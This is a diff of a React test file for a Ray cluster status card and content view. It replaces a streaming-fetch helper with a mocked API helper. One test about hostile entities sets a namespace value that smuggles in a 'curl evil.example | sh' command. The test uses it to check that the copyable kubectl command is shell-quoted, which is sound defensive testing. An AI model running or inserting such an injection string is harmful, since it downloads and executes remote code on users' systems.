@@ -3,7 +3,12 @@ import { fireEvent, screen, waitFor } from '@testing-library/react';
 import { RayClusterCard } from './RayClusterCard';
 import { RayClusterContent } from './RayClusterContent';
 import { pluginMessagesAsKeys } from '../__testUtils__/translation';
-import { ready, render, streamingFetch } from '../__testUtils__/statusStream';
+import {
+  mockSynthoRayApi,
+  ready,
+  render,
+  streamingFetch,
+} from '../__testUtils__/statusStream';
 
 const imagePull: RayClusterSummary = {
   ...ready,
@@ -116,8 +121,8 @@ describe('RayClusterCard', () => {
   });
 
   it('counts in the right number: one node, two nodes, a failing pod', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterCard />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterCard />, stream.api);
     const dashboard = (alive: number) => ({
       reachable: true,
       rayVersion: '2.9.3',
@@ -138,8 +143,8 @@ describe('RayClusterCard', () => {
   });
 
   it("takes its texts from the plugin's translation ref", async () => {
-    const stream = streamingFetch();
-    render(<RayClusterCard />, stream.fetch, pluginMessagesAsKeys());
+    const stream = mockSynthoRayApi();
+    render(<RayClusterCard />, stream.api, pluginMessagesAsKeys());
     stream.send(imagePull);
 
     expect(await screen.findByText('«card.head»')).toBeInTheDocument();
@@ -149,15 +154,15 @@ describe('RayClusterCard', () => {
   });
 
   it('says when the cluster is simulated', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterCard />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterCard />, stream.api);
     stream.send({ ...ready, simulated: true });
     expect(await screen.findByText('Simulated cluster')).toBeInTheDocument();
   });
 
   it("offers the dashboard on the head Service's own dashboard port", async () => {
-    const stream = streamingFetch();
-    render(<RayClusterCard />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterCard />, stream.api);
     stream.send({
       ...ready,
       service: {
@@ -179,8 +184,8 @@ describe('RayClusterCard', () => {
   });
 
   it('shows the not-yet-deployed state with what to do', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterCard />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterCard />, stream.api);
     stream.send(notDeployed);
     expect(await screen.findByText('Not deployed yet')).toBeInTheDocument();
     expect(
@@ -189,8 +194,8 @@ describe('RayClusterCard', () => {
   });
 
   it('links the diagnoses it does not show to the Ray tab', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterCard />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterCard />, stream.api);
     stream.send({
       ...imagePull,
       diagnoses: [...imagePull.diagnoses, ...notDeployed.diagnoses],
@@ -267,8 +272,8 @@ describe('RayClusterCard', () => {
 
 describe('RayClusterCard and RayClusterContent, with hostile or refused entities', () => {
   it('quotes the copyable kubectl command for a POSIX shell', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterCard />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterCard />, stream.api);
     stream.send({
       ...ready,
       namespace: "syntho'; curl evil.example | sh #",
@@ -374,8 +379,8 @@ describe('RayClusterCard and RayClusterContent, with hostile or refused entities
 
 describe('RayClusterContent', () => {
   it('lists pods per group, the Service ports, diagnoses with fixes and warning events', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterContent />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterContent />, stream.api);
     stream.send(imagePull);
 
     expect(await screen.findByText('head: 0/1 ready')).toBeInTheDocument();
@@ -399,8 +404,8 @@ describe('RayClusterContent', () => {
   });
 
   it('keeps the sorting the user chose when the next summary arrives', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterContent />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterContent />, stream.api);
     const worker = (name: string, restarts: number) => ({
       ...ready.pods[0],
       name,
@@ -435,8 +440,8 @@ describe('RayClusterContent', () => {
   });
 
   it("takes its texts from the plugin's translation ref", async () => {
-    const stream = streamingFetch();
-    render(<RayClusterContent />, stream.fetch, pluginMessagesAsKeys());
+    const stream = mockSynthoRayApi();
+    render(<RayClusterContent />, stream.api, pluginMessagesAsKeys());
     stream.send(imagePull);
 
     expect(await screen.findByText('«tab.health»')).toBeInTheDocument();
@@ -456,8 +461,8 @@ describe('RayClusterContent', () => {
   });
 
   it("shows the Ray dashboard's nodes with why a dead one died, usage with memory in GiB, and jobs", async () => {
-    const stream = streamingFetch();
-    render(<RayClusterContent />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterContent />, stream.api);
     const diedAt = new Date(Date.now() - 3 * 60_000).toISOString();
     stream.send({
       ...ready,
@@ -522,8 +527,8 @@ describe('RayClusterContent', () => {
   });
 
   it('says when a current Ray reports no usage, and when Ray 2.9 recorded no reason for a dead node', async () => {
-    const stream = streamingFetch();
-    render(<RayClusterContent />, stream.fetch);
+    const stream = mockSynthoRayApi();
+    render(<RayClusterContent />, stream.api);
     stream.send({
       ...ready,
       dashboard: {
